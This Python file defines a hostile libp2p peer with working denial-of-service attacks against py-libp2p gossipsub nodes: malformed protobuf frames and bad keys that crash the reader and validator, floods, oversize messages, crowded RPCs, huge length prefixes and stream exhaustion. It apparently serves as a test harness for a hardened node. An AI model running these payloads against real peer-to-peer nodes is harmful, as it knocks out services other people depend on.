"""A hostile libp2p peer, run as a process of its own: `python p2p_attacker.py <attack> <victim multiaddr>`.

It uses unguarded py-libp2p. Exit status 0: the attack was sent; 3: the victim refused the connection.
"""

from __future__ import annotations

import os
import sys
from collections.abc import Awaitable, Callable

import trio
from libp2p import new_host
from libp2p.abc import IHost
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.crypto.x25519 import create_new_key_pair as create_noise_key_pair
from libp2p.custom_types import TProtocol
from libp2p.network.exceptions import SwarmException
from libp2p.peer.id import ID
from libp2p.peer.peerinfo import info_from_p2p_addr
from libp2p.pubsub.gossipsub import PROTOCOL_ID_V12, GossipSub
from libp2p.pubsub.pb import rpc_pb2
from libp2p.pubsub.pubsub import Pubsub
from libp2p.pubsub.validators import PUBSUB_SIGNING_PREFIX
from libp2p.security.insecure.transport import PLAINTEXT_PROTOCOL_ID, InsecureTransport
from libp2p.security.noise.transport import PROTOCOL_ID as NOISE
from libp2p.security.noise.transport import Transport as NoiseTransport
from libp2p.stream_muxer.yamux.yamux import PROTOCOL_ID as YAMUX
from libp2p.stream_muxer.yamux.yamux import Yamux
from libp2p.tools.anyio_service import background_trio_service
from libp2p.utils.varint import encode_uvarint
from multiaddr import Multiaddr

TOPIC = "/gpumarket/offers/1"
SNAPSHOT = TProtocol("/gpumarket/snapshot/1")
SETTLE_SECONDS = 1.0


def build(plaintext: bool) -> tuple[IHost, Pubsub, GossipSub]:
    keys = create_new_key_pair()
    insecure = {TProtocol(PLAINTEXT_PROTOCOL_ID): InsecureTransport(keys)}
    noise = {NOISE: NoiseTransport(keys, noise_privkey=create_noise_key_pair().private_key)}
    host = new_host(key_pair=keys, sec_opt=insecure if plaintext else noise, muxer_opt={TProtocol(YAMUX): Yamux})
    gossip = GossipSub(protocols=[PROTOCOL_ID_V12], degree=6, degree_low=4, degree_high=12, heartbeat_interval=1)
    return host, Pubsub(host, gossip, strict_signing=True), gossip


async def write(host: IHost, victim: ID, protocol: TProtocol, data: bytes) -> None:
    stream = await host.new_stream(victim, [protocol])
    await stream.write(data)
    await trio.sleep(SETTLE_SECONDS)


def framed(rpc: rpc_pb2.RPC) -> bytes:
    raw = rpc.SerializeToString()
    return encode_uvarint(len(raw)) + raw


async def send(host: IHost, victim: ID, *messages: rpc_pb2.Message) -> None:
    await write(host, victim, PROTOCOL_ID_V12, framed(rpc_pb2.RPC(publish=messages)))


def signed(host: IHost, data: bytes, seqno: int, topics: tuple[str, ...] = (TOPIC,)) -> rpc_pb2.Message:
    """What Pubsub.publish makes, without its limits."""
    origin = host.get_id().to_bytes()
    message = rpc_pb2.Message(data=data, topicIDs=topics, from_id=origin, seqno=seqno.to_bytes(8, "big"))
    message.signature = host.get_private_key().sign(PUBSUB_SIGNING_PREFIX.encode() + message.SerializeToString())
    message.key = host.get_public_key().serialize()
    return message


async def garbage_protobuf(host: IHost, victim: ID) -> None:
    """Killer 1: DecodeError escapes Pubsub.continuously_read_stream."""
    await write(host, victim, PROTOCOL_ID_V12, encode_uvarint(100) + b"\xff" * 100)


async def bad_key_random_sender(host: IHost, victim: ID) -> None:
    """Killer 2: validators.signature_validator re-raises."""
    sender = b"\x12\x20" + os.urandom(32)
    await send(
        host,
        victim,
        rpc_pb2.Message(data=b"x", topicIDs=[TOPIC], from_id=sender, seqno=bytes(8), signature=b"s" * 64, key=b"\xff\xffgarbage"),
    )


async def bad_key_empty_sender(host: IHost, victim: ID) -> None:
    """Killer 3: the same by way of an empty from_id."""
    key = bytes([8, 1, 18, 32]) + os.urandom(31)
    await send(host, victim, rpc_pb2.Message(data=b"x", topicIDs=[TOPIC], signature=b"s" * 64, key=key))


async def oversize_offer(host: IHost, victim: ID) -> None:
    await send(host, victim, signed(host, b"x" * 65_537, 1))


async def unsigned_offer(host: IHost, victim: ID) -> None:
    """Pubsub's own signature holds; the wallet's does not exist."""
    await send(host, victim, signed(host, b"not an offer", 1))


async def flood(host: IHost, victim: ID) -> None:
    """Ten RPCs of 60 well-formed messages each, at once."""
    batches = [rpc_pb2.RPC(publish=[signed(host, b"x", 100 * batch + i) for i in range(60)]) for batch in range(10)]
    await write(host, victim, PROTOCOL_ID_V12, b"".join(framed(batch) for batch in batches))


async def crowded_rpc(host: IHost, victim: ID) -> None:
    """5000 messages in one RPC: each would become a task, and starting one walks all of them."""
    await send(host, victim, *([signed(host, b"x", 1)] * 5000))


async def invented_topics(host: IHost, victim: ID) -> None:
    await send(host, victim, signed(host, b"x", 1, (TOPIC, *(f"t{number}" for number in range(1000)))))


async def garbage_snapshot_request(host: IHost, victim: ID) -> None:
    await write(host, victim, SNAPSHOT, encode_uvarint(100) + b"\xff" * 100)


async def huge_length_prefix(host: IHost, victim: ID) -> None:
    await write(host, victim, PROTOCOL_ID_V12, encode_uvarint(64 << 20) + b"x" * 1000)


async def many_streams(host: IHost, victim: ID) -> None:
    for _ in range(100):
        with trio.move_on_after(2):
            await host.new_stream(victim, [SNAPSHOT])
    await trio.sleep(SETTLE_SECONDS)


async def nothing(host: IHost, victim: ID) -> None:
    """Only connects."""


ATTACKS: dict[str, Callable[[IHost, ID], Awaitable[None]]] = {
    attack.__name__: attack
    for attack in (
        garbage_protobuf,
        bad_key_random_sender,
        bad_key_empty_sender,
        oversize_offer,
        unsigned_offer,
        flood,
        crowded_rpc,
        invented_topics,
        garbage_snapshot_request,
        huge_length_prefix,
        many_streams,
        nothing,
    )
}


async def main(attack: str, address: str) -> int:
    plaintext = attack == "plaintext"
    host, pubsub, gossip = build(plaintext)
    async with (
        host.run(listen_addrs=[Multiaddr("/ip4/127.0.0.1/tcp/0")]),
        background_trio_service(pubsub),
        background_trio_service(gossip),
    ):
        await pubsub.wait_until_ready()
        await pubsub.subscribe(TOPIC)
        victim = info_from_p2p_addr(Multiaddr(address))
        try:
            await host.connect(victim)
        except SwarmException:
            os._exit(3)
        await ATTACKS["nothing" if plaintext else attack](host, victim.peer_id)
    return 0


if __name__ == "__main__":
    trio.run(main, *sys.argv[1:3])
    os._exit(0)  # libp2p leaves threads behind
